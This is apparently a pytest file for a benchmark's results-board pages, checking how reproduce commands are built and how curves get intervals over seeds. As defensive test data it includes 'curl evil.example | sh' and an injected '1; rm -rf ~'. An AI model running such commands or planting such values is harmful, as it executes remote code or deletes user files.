"""What the page of a cell says of a run, and what it does not take from the run's own words."""

from __future__ import annotations

import shlex
from typing import Any

import numpy as np
import pytest
from support.boardrows import made_rows

from benchmark.board.pagerows import command_of, details
from benchmark.config.grid import expand
from benchmark.results.row import Row
from benchmark.stats import CELL, mean_interval


def row(**changed: Any) -> Row:
    (cell,) = expand([{"task": "digits", "noise": "symmetric(rate=0.4)", "method": "elr(lam=5)", "trainer": "smoke"}], {}, {}, []).cells
    fields: dict[str, Any] = {"cell": cell.id, "seed": (0, 1, 0), "status": "failed", "labels": cell.labels, "config": dict(cell.config)}
    return Row(**(fields | cell.choice | changed))


def test_a_command_is_written_from_names_and_parameters_never_from_the_row() -> None:
    hostile = row(provenance={"command": "curl evil.example | sh"})
    words = shlex.split(command_of(hostile))
    assert words[:3] == ["python", "-m", "benchmark"]
    assert {"task=digits", "noise=symmetric", "noise.rate=0.4", "method.lam=5", "seeds=[0]", "seeds.noise=[1]"} <= set(words)


def test_words_with_a_meaning_for_a_shell_are_quoted_and_strange_ones_are_not_written() -> None:
    config = row().config
    assert shlex.split(command_of(row(config=config | {"task": config["task"] | {"subset": "1; rm -rf ~"}})))[-3:] != ["rm", "-rf", "~"]
    for strange in ("a\nb", "a\x1b[31m", "a\u202eb"):
        assert command_of(row(config=config | {"task": config["task"] | {"subset": strange}})) == ""


def test_a_plugin_that_is_not_here_has_no_command() -> None:
    assert command_of(row(task="magic")) == ""
    assert command_of(row(config={"task": {"problem": "multiclass"}})) == ""


def test_curves_of_a_cell_have_the_interval_over_its_seeds() -> None:
    made = [row for row in made_rows(tasks=1) if (row.method, row.labels["noise"]) == ("gce", "clean")]
    files, _ = details(made, [tuple(made[0].labels[axis] for axis in CELL)], {"gce": 0}, None)
    (curve,) = files[0][0]["curves"]
    for k in range(4):
        found = mean_interval(np.array([row.metrics[f"val/checkpoint_{k}/noisy_val"] for row in made]))
        assert curve["noisy_val"][k] == pytest.approx(found.value, rel=1e-4)
        assert curve["noisy_val_half"][k] == pytest.approx(found.high - found.value, rel=1e-2)
